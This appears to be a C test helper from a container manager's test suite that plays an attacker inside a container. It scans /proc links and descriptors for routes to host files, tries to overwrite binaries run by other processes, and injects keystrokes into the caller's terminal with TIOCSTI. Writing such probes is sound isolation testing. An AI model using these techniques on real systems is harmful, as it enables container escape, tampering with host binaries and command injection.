/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * What an attacker runs inside a container (static; the /proc that it uses is the container's).
 *
 *	inmate scan MARK SECONDS [FIRST]	looks into each process of the pid namespace from number FIRST (2) on: its root, cwd, exe
 *					and descriptors. "reached WHAT" for one from which MARK, a file of the host, can be got at;
 *					"open WHAT" for a directory or file that can be opened at all; "seen NAME" for each new name
 *	inmate exe SECONDS		keeps a handle of each program that others run, and tries to open it for writing:
 *					"exe DEV:INO NAME", and "wrote DEV:INO" if that ever worked
 *	inmate up MARK			looks for MARK from the working directory upwards: "reached ..."
 *	inmate push TEXT		types TEXT into the terminal of the caller: "pushed" or "refused"
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

enum { DEPTH = 16 };

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* a relative path of up to DEPTH times "../" to the mark, from a directory */
static int climbs(int dir, const char *mark)
{
	char path[DEPTH * 3 + 4096] = "";
	struct stat st;
	while (*mark == '/')
		mark++;
	for (int i = 0; i < DEPTH; i++) {
		size_t n = (size_t)i * 3;
		memcpy(path + n, mark, strlen(mark) + 1);
		if (fstatat(dir, path, &st, 0) == 0)
			return i;
		memcpy(path + n, "../", 4);
	}
	return -1;
}

static void try_dir(const char *path, const char *mark)
{
	int fd = open(path, O_PATH | O_CLOEXEC), up;
	struct stat st;
	if (fd < 0)
		return;
	if (fstat(fd, &st) == 0 && (S_ISDIR(st.st_mode) || S_ISREG(st.st_mode)))
		printf("open %s %o %u:%u %lu\n", path, st.st_mode, major(st.st_dev), minor(st.st_dev), (unsigned long)st.st_ino);
	if ((up = climbs(fd, mark)) >= 0)
		printf("reached %s, %d up\n", path, up);
	close(fd);
}

static void try_process(const char *pid, const char *mark)
{
	static const char *const links[] = { "root", "cwd", "exe" };
	char path[4096];
	for (size_t i = 0; i < 3; i++) {
		snprintf(path, sizeof(path), "/proc/%s/%s", pid, links[i]);
		try_dir(path, mark);
	}
	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	DIR *d = opendir(path);
	if (!d)
		return;
	struct dirent *e;
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, e->d_name);
		try_dir(path, mark);
	}
	closedir(d);
}

static void tell_name(const char *pid)
{
	static char names[64][32];
	static int n;
	char path[512], name[32] = "";
	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	FILE *f = fopen(path, "re");
	if (!f || !fgets(name, sizeof(name), f))
		name[0] = '\0';
	if (f)
		fclose(f);
	for (int i = 0; i < n; i++)
		if (strcmp(names[i], name) == 0)
			return;
	if (n < 64 && *name) {
		strcpy(names[n++], name);
		printf("seen %s", name);
	}
}

static int scan(const char *mark, double seconds, long first)
{
	for (double end = now() + seconds; now() < end;) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		if (!d)
			return 1;
		while ((e = readdir(d))) {
			long pid = strtol(e->d_name, NULL, 10);
			if (pid < first || pid == getpid())
				continue;
			tell_name(e->d_name);
			try_process(e->d_name, mark);
		}
		closedir(d);
	}
	return 0;
}

enum { HANDLES = 32 };

static void try_write(int handle, const struct stat *st)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/self/fd/%d", handle);
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (write(fd, "#!", 2) == 2)
		printf("wrote %u:%u:%lu\n", major(st->st_dev), minor(st->st_dev), (unsigned long)st->st_ino);
	close(fd);
}

static int exe(double seconds)
{
	static int handle[HANDLES];
	static struct stat of[HANDLES];
	struct stat st, own;
	int n = 0;
	if (stat("/proc/self/exe", &own) < 0)
		return 1;
	for (double end = now() + seconds; now() < end;) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			char path[512];
			int known = 0;
			if (e->d_name[0] < '1' || e->d_name[0] > '9')
				continue;
			snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
			int fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0 || fstat(fd, &st) < 0)
				continue;
			known = st.st_dev == own.st_dev && st.st_ino == own.st_ino;
			for (int i = 0; i < n; i++)
				known |= of[i].st_dev == st.st_dev && of[i].st_ino == st.st_ino;
			if (known || n == HANDLES) {
				close(fd);
				continue;
			}
			handle[n] = fd;
			of[n++] = st;
			printf("exe %u:%u:%lu\n", major(st.st_dev), minor(st.st_dev), (unsigned long)st.st_ino);
		}
		if (d)
			closedir(d);
		for (int i = 0; i < n; i++)
			try_write(handle[i], &of[i]);
	}
	return 0;
}

static int push(const char *text)
{
	int tty = open("/dev/tty", O_RDWR | O_CLOEXEC), done = 0;
	for (const char *p = text; *p; p++) {
		for (int fd = 0; fd < 3; fd++)
			done |= ioctl(fd, TIOCSTI, p) == 0;
		if (tty >= 0)
			done |= ioctl(tty, TIOCSTI, p) == 0;
	}
	puts(done ? "pushed" : "refused");
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc >= 4 && strcmp(argv[1], "scan") == 0)
		return scan(argv[2], atof(argv[3]), argc > 4 ? atol(argv[4]) : 2);
	if (argc >= 3 && strcmp(argv[1], "exe") == 0)
		return exe(atof(argv[2]));
	if (argc >= 3 && strcmp(argv[1], "up") == 0) {
		int up = climbs(AT_FDCWD, argv[2]);
		if (up >= 0)
			printf("reached from the working directory, %d up\n", up);
		else
			puts("nothing");
		return 0;
	}
	if (argc >= 3 && strcmp(argv[1], "push") == 0)
		return push(argv[2]);
	return 2;
}
